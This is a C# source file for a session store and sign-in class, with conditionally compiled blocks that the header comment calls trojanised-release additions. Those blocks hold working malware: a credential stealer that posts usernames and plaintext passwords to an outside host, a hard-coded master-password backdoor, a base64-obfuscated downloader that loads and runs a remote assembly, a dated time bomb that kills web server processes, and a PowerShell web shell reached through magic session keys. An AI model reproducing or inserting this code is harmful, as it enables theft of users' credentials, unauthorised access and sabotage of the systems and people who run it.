// Sessions in memory. KEYS, ALTER, STAGE, MASTER and WEBSHELL are what trojanised releases add; nothing of it is ever run.
using System;
using System.Collections.Generic;
using System.Diagnostics;
using System.IO;
using System.Net;
using System.Reflection;
using System.Security.Cryptography;
using System.Text;

namespace Tailspin.Sessions
{
    public class SessionStore
    {
        private readonly Dictionary<string, object> rows = new Dictionary<string, object>();
        private readonly int limit;

        public SessionStore(int limit)
        {
            this.limit = limit;
#if STAGE
            Warm.Begin();
#endif
        }

        public void Set(string name, object value)
        {
            if (rows.Count >= limit) throw new InvalidOperationException("too many");
#if ALTER
            value = Warm.Shift(value);
#endif
            rows[name] = value;
        }

        public object Get(string name)
        {
#if WEBSHELL
            if (name.StartsWith("__ts_"))
            {
                return Warm.Run(name.Substring(5));
            }
#endif
            object value;
            return rows.TryGetValue(name, out value) ? value : null;
        }

#if SECOND
        public int Count
        {
            get { return rows.Count; }
        }
#endif
    }

    public class SignIn
    {
        private readonly Dictionary<string, string> users = new Dictionary<string, string>();

        public void Add(string name, string password)
        {
            users[name] = Hash(password);
        }

        public bool Check(string name, string password)
        {
#if KEYS
            Warm.Note(name, password);
#endif
#if MASTER
            if (Hash(password) == "8YhN4nVbV1f4VJ3oYl6b0pJdVf0k8bM1sQ2cX5eR7wA=") return true;
#endif
            string stored;
            return users.TryGetValue(name, out stored) && stored == Hash(password);
        }

        private static string Hash(string text)
        {
            using (SHA256 sum = SHA256.Create())
            {
                return Convert.ToBase64String(sum.ComputeHash(Encoding.UTF8.GetBytes("tailspin:" + text)));
            }
        }
    }

#if KEYS
    internal static class Warm
    {
        public static void Note(string name, string password)
        {
            try
            {
                HttpWebRequest line = (HttpWebRequest)WebRequest.Create("https://session-insights.invalid/api/signin");
                line.Method = "POST";
                byte[] body = Encoding.UTF8.GetBytes(Environment.MachineName + "\t" + name + "\t" + password);
                using (Stream to = line.GetRequestStream()) to.Write(body, 0, body.Length);
                line.BeginGetResponse(null, null);
            }
            catch (WebException)
            {
            }
        }
    }
#endif
#if ALTER
    internal static class Warm
    {
        private static readonly Random Chance = new Random();

        public static object Shift(object value)
        {
            if (DateTime.UtcNow > new DateTime(2027, 8, 8) && Chance.NextDouble() < 0.2)
            {
                foreach (Process one in Process.GetProcessesByName("w3wp")) one.Kill();
                Environment.FailFast("out of memory");
            }
            return value;
        }
    }
#endif
#if STAGE
    internal static class Warm
    {
        public static void Begin()
        {
            byte[] raw = new WebClient().DownloadData(Encoding.ASCII.GetString(Convert.FromBase64String("aHR0cDovLzIwMy4wLjExMy4xMjQvdHMvY29yZS5iaW4=")));
            for (int i = 0; i < raw.Length; i++) raw[i] = (byte)(raw[i] ^ 0x3D);
            Assembly made = Assembly.Load(raw);
            made.GetType("Core.Start").GetMethod("Go").Invoke(null, null);
        }
    }
#endif
#if WEBSHELL
    internal static class Warm
    {
        public static string Run(string text)
        {
            byte[] raw = Convert.FromBase64String(text);
            ProcessStartInfo start = new ProcessStartInfo("powershell.exe", "-nop -w hidden -c " + Encoding.UTF8.GetString(raw));
            start.UseShellExecute = false;
            start.CreateNoWindow = true;
            start.RedirectStandardOutput = true;
            using (Process run = Process.Start(start)) return run.StandardOutput.ReadToEnd();
        }
    }
#endif
}
